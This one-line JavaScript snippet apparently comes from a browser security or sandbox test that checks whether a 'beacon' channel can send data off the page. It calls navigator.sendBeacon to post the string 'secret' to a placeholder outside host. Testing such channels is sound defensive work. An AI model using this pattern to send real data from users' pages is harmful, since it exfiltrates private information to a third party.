attempt("beacon", () => navigator.sendBeacon("__AWAY__/beacon", "secret"));
